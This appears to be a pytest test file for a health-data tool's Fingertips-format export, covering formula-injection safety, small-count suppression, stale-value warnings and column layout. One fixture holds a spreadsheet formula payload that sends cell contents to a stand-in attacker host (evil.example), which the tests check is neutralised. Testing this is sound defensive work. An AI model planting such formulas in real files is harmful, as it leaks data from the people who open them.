"""`carepath export`: the long format of a Fingertips data export, safe to open in a
spreadsheet, and the public file passed through the one disclosure policy."""

from __future__ import annotations

import csv

import duckdb
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from carepath.cli import app
from carepath.engine.run import compute
from carepath.indicators.library import builtin
from carepath.reports.export import FINGERTIPS_COLUMNS, export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def exported_ws(small_ws):
    with small_ws.transaction() as con:
        con.execute("UPDATE organisations SET name = ? WHERE org_code = 'L1'", [FORMULA])
        con.execute("UPDATE organisations SET name = '@SUM(1+1)' WHERE org_code = 'P1'")
    compute(small_ws, [builtin()[i] for i in ("early_stage_known", "usc_referral_isr")])
    return small_ws


@pytest.mark.parametrize("public", [False, True])
def test_csv_and_excel_exports_never_carry_a_live_formula(exported_ws, tmp_path, public):
    csv_path, xlsx_path = tmp_path / "v.csv", tmp_path / "v.xlsx"
    export(exported_ws, csv_path, fmt="csv", public=public)
    export(exported_ws, xlsx_path, fmt="xlsx", public=public)
    with csv_path.open(encoding="utf-8") as fh:
        names = {r["Area Name"] for r in csv.DictReader(fh)}
    assert "'" + FORMULA in names and "'@SUM(1+1)" in names
    assert not any(n.startswith(("=", "@")) for n in names)
    sheet = openpyxl.load_workbook(xlsx_path).active
    kinds = {c.data_type for r in sheet.iter_rows() for c in r}
    assert "f" not in kinds  # no cell is a formula
    # In Excel the name reads as it is, kept text by Excel's own (hidden) quote prefix: a
    # visible apostrophe made names differ from the database's (found by a user test).
    cells = {c.value: c for r in sheet.iter_rows() for c in r}
    assert cells[FORMULA].quotePrefix and cells["@SUM(1+1)"].quotePrefix
    assert "'" + FORMULA not in cells


def test_parquet_keeps_names_as_they_are(exported_ws, tmp_path):
    export(exported_ws, tmp_path / "v.parquet", fmt="parquet")
    assert FORMULA in set(pd.read_parquet(tmp_path / "v.parquet")["Area Name"])


def test_public_export_is_disclosure_controlled_and_in_fingertips_columns(exported_ws,
                                                                          tmp_path):
    out = tmp_path / "p.csv"
    result = CliRunner().invoke(app, ["export", "-w", str(exported_ws.path), "--format", "csv",
                                      "--public", "--out", str(out)])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(out)
    assert tuple(frame.columns[:len(FINGERTIPS_COLUMNS)]) == FINGERTIPS_COLUMNS
    assert "definition_hash" not in frame.columns
    local = frame[frame["Area Type"] != "National"]
    counts = local["Count"].dropna()
    assert not counts.between(1, 7).any() and (counts % 5 == 0).all()
    # A suppressed row shows neither value nor count.
    hidden = local[local["value_state"] == "suppressed"]
    assert len(hidden) and hidden[["Value", "Count"]].isna().all().all()
    # The publisher is told how many values were suppressed (national's too).
    suppressed = int((frame["value_state"] == "suppressed").sum())
    assert f"disclosure control applied: {suppressed:,} values suppressed" in " ".join(
        result.output.split())


@pytest.mark.parametrize("out, fmt, indicators, message", [
    ("nodir/v.csv", "csv", None, "does not exist"),
    ("v.xlsx", "csv", None, "must end .csv"),
    ("v.csv", "csv", ["nope", "early_stage_known"], "unknown indicator id 'nope'"),
    # It read as "no indicator values to export; run compute first" (found by a user test).
    ("v.csv", "csv", ["nope"], "unknown indicator id 'nope'"),
    ("v.csv", "csv", ["deaths_in_hospital"], "no values for deaths_in_hospital yet"),
])
def test_export_refuses_clearly_before_writing(exported_ws, tmp_path, out, fmt, indicators,
                                               message):
    from carepath.errors import ValidationError

    with pytest.raises(ValidationError, match=message):
        export(exported_ws, tmp_path / out, fmt=fmt, indicators=indicators)
    assert not (tmp_path / out).exists()


def test_rows_read_as_fingertips_writes_them(exported_ws, tmp_path):
    """Sex and age go in their own columns, other breakdowns in Category Type / Category,
    codes as words, each row named for its indicator and its parent."""
    export(exported_ws, tmp_path / "v.csv", fmt="csv")
    frame = pd.read_csv(tmp_path / "v.csv")
    early = frame[frame["Indicator ID"] == "early_stage_known"]
    assert set(early["Indicator Name"]) == {builtin()["early_stage_known"].title}
    by_sex = early[early["Sex"] != "Persons"]
    assert set(by_sex["Sex"]) == {"Male", "Female"} and by_sex["Category Type"].isna().all()
    groups = early[early["Category Type"] == "Tumour group"]
    assert "Lung" in set(groups["Category"]) and set(groups["Sex"]) == {"Persons"}
    practice = early[early["Area Code"] == "P1"].iloc[0]
    assert practice["Area Type"] == "GP practice" and practice["Parent Code"] == "L1"
    # P3 is South's only practice: the same figure, so it is compared with the ICB.
    alone = early[early["Area Code"] == "P3"].iloc[0]
    assert (alone["Parent Code"], alone["Parent Name"]) == ("I1", "Wessex ICB")
    assert set(frame["Compared to parent value or percentiles"].dropna()) <= {
        "Better", "Similar", "Worse", "Higher", "Lower", "Not compared"}
    assert frame["Time period Sortable"].astype(str).str.fullmatch(r"\d{8}").all()


def test_columns_are_in_the_places_of_a_fingertips_export(exported_ws, tmp_path):
    """Tools read a Fingertips download by position too: Compared to goal is its 26th
    column, after New data (it was 25th; found by a user test)."""
    export(exported_ws, tmp_path / "v.csv", fmt="csv")
    header = list(pd.read_csv(tmp_path / "v.csv", nrows=0).columns)
    assert header[21:26] == ["Compared to England value or percentiles",
                             "Compared to parent value or percentiles", "Time period Sortable",
                             "New data", "Compared to goal"]


def test_an_export_loads_back_as_external_values(exported_ws, tmp_path):
    """What Carepath writes, its own Fingertips source reads: same areas, periods, values."""
    from carepath.sources import load_source

    export(exported_ws, tmp_path / "v.csv", fmt="csv", indicators=["early_stage_known"])
    (res,) = load_source(exported_ws, "fingertips", tmp_path / "v.csv")
    assert res.rows_read == res.rows_loaded
    with exported_ws.connect(read_only=True) as con:
        ours = con.execute("SELECT area_code, period, breakdown, category, value FROM "
                           "indicator_values WHERE indicator_id = 'early_stage_known' AND "
                           "breakdown = 'all' ORDER BY ALL").fetchall()
        back = con.execute("SELECT area_code, period, breakdown, category, value FROM "
                           "external_indicator_values WHERE indicator_id = 'early_stage_known' "
                           "AND breakdown = 'all' AND sex = 'all' ORDER BY ALL").fetchall()
    assert back == ours


def _load_more_tumours(ws):
    with ws.transaction() as con:
        con.execute("INSERT INTO load_log VALUES ('load-2', 'tumours', 'more', NULL, 1, 1, 0, "
                    "'test', TIMESTAMP '2024-07-01 00:00:00')")


def _cli_export(ws, out, *args):
    return CliRunner().invoke(app, ["export", "-w", str(ws.path), "--format", "csv",
                                    "--out", str(out), *args])


def test_an_existing_file_is_not_written_over_without_replace(exported_ws, tmp_path):
    """A name typed by mistake (someone's own workbook) is not overwritten without a word;
    nor is a public export recorded as a release when nothing was written."""
    out = tmp_path / "mine.csv"
    out.write_text("my own work\n")
    with exported_ws.connect(read_only=True) as con:
        releases = con.execute("SELECT count(*) FROM releases").fetchall()[0][0]
    refused = _cli_export(exported_ws, out, "--public")
    assert refused.exit_code != 0
    assert "mine.csv: already exists; add --replace to write over it" in str(refused.exception)
    assert out.read_text() == "my own work\n"
    with exported_ws.connect(read_only=True) as con:
        assert con.execute("SELECT count(*) FROM releases").fetchall()[0][0] == releases
    assert _cli_export(exported_ws, out, "--replace").exit_code == 0
    assert "Indicator ID" in out.read_text(encoding="utf-8-sig").splitlines()[0]


def test_values_out_of_date_are_not_published_as_current(exported_ws, tmp_path):
    _load_more_tumours(exported_ws)
    out = tmp_path / "v.csv"
    refused = _cli_export(exported_ws, out, "--public")
    assert refused.exit_code != 0 and not out.exists()
    assert "early_stage_known: data loaded since into tumours; compute them again" in \
        str(refused.exception)
    assert "usc_referral_isr" not in str(refused.exception)  # reads no tumours: current
    assert _cli_export(exported_ws, out, "--public", "-i", "usc_referral_isr").exit_code == 0
    analyst = _cli_export(exported_ws, out, "--replace")
    assert analyst.exit_code == 0
    assert "1 indicator(s) exported with values out of date" in analyst.stderr
    assert "early_stage_known: data loaded since into tumours" in analyst.stderr
    # and in the file too, which is sent on where the screen is not
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    stale = written[written["Indicator ID"] == "early_stage_known"]["out_of_date"]
    assert len(stale) and stale.str.startswith("data loaded since into tumours").all()
    assert (written[written["Indicator ID"] == "usc_referral_isr"]["out_of_date"] == "").all()


def test_a_failed_compute_keeps_values_out_of_date_until_one_works(exported_ws, tmp_path,
                                                                    monkeypatch):
    """The failure itself is remembered: the values were exported as current, and a plain
    compute then called the indicator 'unchanged'."""
    from carepath.engine import run as engine_run
    from carepath.engine.freshness import out_of_date

    real = engine_run.compute_one

    def broken(ctx, defn):
        raise duckdb.BinderException('Referenced column "stage" not found')

    monkeypatch.setattr(engine_run, "compute_one", broken)
    failed = compute(exported_ws, [builtin()["early_stage_known"]], force=True)[0]
    assert failed.status == "failed" and "earlier values are kept" in failed.message
    with exported_ws.connect(read_only=True) as con:
        why = out_of_date(con, builtin(), exported_ws.config())["early_stage_known"]
    assert why.reason.startswith("its last compute failed: Referenced column")
    assert _cli_export(exported_ws, tmp_path / "v.csv", "--public").exit_code != 0
    monkeypatch.setattr(engine_run, "compute_one", real)
    again = compute(exported_ws, [builtin()["early_stage_known"]])[0]
    assert again.status == "computed"  # not 'unchanged'
    with exported_ws.connect(read_only=True) as con:
        assert out_of_date(con, builtin(), exported_ws.config()) == {}


def test_a_changed_definition_or_a_dropped_table_makes_values_out_of_date(exported_ws):
    from carepath.engine.freshness import out_of_date

    library = dict(builtin())
    with exported_ws.connect(read_only=True) as con:
        assert out_of_date(con, library, exported_ws.config()) == {}
    library["early_stage_known"] = library["early_stage_known"].model_copy(
        update={"title": "changed"})
    with exported_ws.transaction() as con:
        con.execute("DROP TABLE referrals")
    with exported_ws.connect(read_only=True) as con:
        reasons = {k: v.reason for k, v in out_of_date(con, library,
                                                        exported_ws.config()).items()}
    assert reasons == {"early_stage_known": "its definition changed since",
                       "usc_referral_isr": "table referrals is no longer in the workspace"}


def test_out_of_date_says_whether_settings_or_carepath_changed(exported_ws, monkeypatch):
    from carepath.engine import freshness

    def reason(config):
        with exported_ws.connect(read_only=True) as con:
            return freshness.out_of_date(con, builtin(), config)["early_stage_known"].reason

    config = exported_ws.config()
    assert "groups of practices, national name or partial areas" in reason(
        {**config, "national_name": "X"})
    monkeypatch.setattr(freshness, "ENGINE_REVISION", "later")
    assert reason(config) == "Carepath's way of computing values changed since"


def test_public_export_follows_the_workspaces_national_setting(exported_ws, tmp_path):
    """`national_exempt = false` was read by the public pages and not by the export; a new
    workspace writes it false (its total is not England's unless it says so)."""
    config = exported_ws.path / "carepath.toml"
    text = config.read_text().replace("suppress_below = 8", "suppress_below = 2")
    assert "national_exempt = false" in text

    def national_counts(exempt: str) -> pd.Series:
        config.write_text(text.replace("national_exempt = false", f"national_exempt = {exempt}"))
        export(exported_ws, tmp_path / f"{exempt}.csv", fmt="csv", public=True)
        frame = pd.read_csv(tmp_path / f"{exempt}.csv")
        return frame[frame["Area Type"] == "National"]["Count"].dropna()

    rounded, exact = national_counts("false"), national_counts("true")
    assert len(rounded) and (rounded % 5 == 0).all()
    assert (exact % 5 != 0).any()


def test_public_export_protects_the_workspaces_own_groups(exported_ws, tmp_path, monkeypatch):
    """The [groups] of carepath.toml reach the disclosure policy (it was untested that the
    export passes them; found by a code review)."""
    import carepath.engine.containment as export_module

    config = exported_ws.path / "carepath.toml"
    config.write_text(config.read_text() + '\n[groups.coast]\nname = "Coast"\n'
                      'practices = ["P1", "P3"]\n')
    compute(exported_ws, [builtin()[i] for i in ("early_stage_known", "usc_referral_isr")])
    seen = {}
    real = export_module.apply_disclosure

    def spy(values, **kwargs):
        seen.update(kwargs)
        return real(values, **kwargs)

    monkeypatch.setattr(export_module, "apply_disclosure", spy)
    export(exported_ws, tmp_path / "p.csv", fmt="csv", public=True)
    p1 = [outer for (_, area_type, code), outer in seen["within"].items()
          if (area_type, code) == ("practice", "P1")]
    assert p1 and all(("group", "coast") in outer for outer in p1)


def test_whole_counts_are_written_whole_beside_another_indicators_fractions(exported_ws,
                                                                            tmp_path):
    """One indicator's fractional denominators (a mean list) put '.0' on every count of
    the export (a code review): each cell is written as it is. Parquet keeps one type."""
    export(exported_ws, tmp_path / "v.csv", fmt="csv")
    with (tmp_path / "v.csv").open(encoding="utf-8-sig") as fh:
        cells = [(r["Indicator ID"], r["Count"], r["Denominator"]) for r in csv.DictReader(fh)]
    counts = [c for i, *both in cells if i == "early_stage_known" for c in both if c]
    assert counts and not any(c.endswith(".0") for c in counts)
    assert any("." in d for i, _, d in cells if i == "usc_referral_isr"), \
        "no fraction beside the whole counts: the test needs one"
    export(exported_ws, tmp_path / "v.parquet", fmt="parquet")
    frame = pd.read_parquet(tmp_path / "v.parquet")
    assert frame["Count"].dtype == "float64" and frame["Denominator"].dtype == "float64"


def test_sex_and_age_columns_say_who_the_denominator_counts(tmp_path):
    """Women aged 50-74 were written 'Persons' (a user test): a tool joining with a
    Fingertips file on Sex and Age found no match."""
    import yaml

    from carepath.indicators.definition import load_file
    from carepath.indicators.library import LIBRARY_DIR
    from carepath.reports.export import _age, _sex

    def changed(name, change):
        data = yaml.safe_load((LIBRARY_DIR / f"{name}.yaml").read_text())
        change(data)
        path = tmp_path / f"{name}.yaml"
        path.write_text(yaml.safe_dump(data))
        return load_file(path)

    women = changed("cancer_incidence_crude", lambda d: (
        d["denominator"].update(sex=["F"], min_age=50, max_age=74),
        d["numerator"].update(where="sex = 'F' and age_at_diagnosis between 50 and 74")))
    assert (_sex(women), _age(women)) == ("Female", "50-74 yrs")
    older = changed("early_stage_known", lambda d: [
        part.update(where=f"{part['where']} and age_at_diagnosis >= 75")
        for part in (d["numerator"], d["denominator"])])
    assert (_sex(older), _age(older)) == ("Persons", "75+ yrs")
    assert (_sex(builtin()["early_stage_known"]), _age(builtin()["early_stage_known"])) == (
        "Persons", "All ages")


def test_screening_is_exported_as_the_people_its_programme_counts():
    """A programme's counts hold only its code: breast screening was 'Persons', 'All ages'
    beside Fingertips' 'Female', '53-70 yrs' (an independent check). Its cohort says so."""
    from carepath.reports.export import _age, _sex

    said = {i: (_sex(builtin()[i]), _age(builtin()[i])) for i in (
        "screening_breast_53_70", "screening_cervical_25_49", "screening_cervical_50_64",
        "screening_bowel_60_74")}
    assert said == {"screening_breast_53_70": ("Female", "53-70 yrs"),
                    "screening_cervical_25_49": ("Female", "25-49 yrs"),
                    "screening_cervical_50_64": ("Female", "50-64 yrs"),
                    "screening_bowel_60_74": ("Persons", "60-74 yrs")}


def test_a_cohort_counts_nothing_and_is_checked():
    from carepath.engine.versions import counting_hash
    from carepath.errors import ValidationError
    from carepath.indicators.definition import from_mapping

    breast = builtin()["screening_breast_53_70"]
    assert counting_hash(breast) == counting_hash(breast.model_copy(update={"cohort": None}))
    data = breast.model_dump(mode="json")
    data["cohort"] = {"sex": ["F"], "min_age": 70, "max_age": 53}
    with pytest.raises(ValidationError, match="max_age 53 is below min_age 70"):
        from_mapping(data, source="breast.yaml")
    data["cohort"] = {}
    with pytest.raises(ValidationError, match="say the sex, the ages, or both"):
        from_mapping(data, source="breast.yaml")


def test_a_cohort_saying_only_the_sex_keeps_the_counts_ages():
    """Saying only the sex threw away the denominator's ages (a review)."""
    from carepath.indicators.cohort import Cohort
    from carepath.reports.export import _age, _sex

    base = builtin()["cancer_incidence_crude"]
    older = base.model_copy(update={"denominator": base.denominator.model_copy(
        update={"min_age": 50, "max_age": 74})})
    women = older.model_copy(update={"cohort": Cohort(sex=("F",))})
    assert (_sex(women), _age(women)) == ("Female", "50-74 yrs")


def test_categories_are_written_as_the_pages_write_them():
    """'Lower gi' and 'Brain cns' were written (a walkthrough)."""
    from carepath.reports.export import _words

    assert [_words(c) for c in ("lower_gi", "brain_cns", "no_significant_change", None)] == [
        "Lower GI", "Brain and CNS", "No significant change", None]
